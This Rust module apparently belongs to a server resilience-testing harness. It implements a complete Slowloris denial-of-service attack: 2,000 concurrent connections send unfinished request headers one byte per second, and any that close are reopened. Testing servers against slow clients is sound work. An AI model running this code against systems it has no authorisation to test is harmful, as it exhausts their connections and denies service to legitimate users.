//! Slowloris: many connections whose requests never come to the end of their heads.

use std::sync::Arc;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::raw;
use super::scenario::Abuser;

const CONNECTIONS: u64 = 2000;
const PAUSE: Duration = Duration::from_secs(1);
pub(super) const LONGEST_HELD_MS: &str = "ms held";

pub(super) async fn run(abuser: &Arc<Abuser>) {
    let mut connections = JoinSet::new();
    for index in 0..CONNECTIONS {
        let abuser = Arc::clone(abuser);
        connections.spawn(async move {
            // As many bytes at any time, not all of them at once.
            sleep(PAUSE * u32::try_from(index).unwrap_or_default() / 2000).await;
            // One that is closed is replaced: there are always so many.
            while !abuser.is_over() {
                hold(&abuser, raw::FIRST_ID + index).await;
            }
        });
    }
    connections.join_all().await;
}

async fn hold(abuser: &Abuser, id: u64) {
    let Ok(stream) = TcpStream::connect(abuser.target).await else {
        abuser.count("refused");
        return sleep(PAUSE).await;
    };
    abuser.count("opened");
    let opened = Instant::now();
    let (mut reader, mut writer) = stream.into_split();
    let drip = async {
        let _ = writer.write_all(raw::head("GET", abuser.target, id).as_bytes()).await;
        let _ = writer.write_all(b"X-Slow: ").await;
        while !abuser.is_over() {
            sleep(PAUSE).await;
            if writer.write_all(b"x").await.is_err() {
                // The reader says how it ended.
                std::future::pending::<()>().await;
            }
        }
    };
    let ended = tokio::select! {
        status = raw::status(&mut reader) => status,
        () = drip => "open at the end".to_owned(),
    };
    abuser.count(&ended);
    abuser.at_least(LONGEST_HELD_MS, u64::try_from(opened.elapsed().as_millis()).unwrap_or(u64::MAX));
}
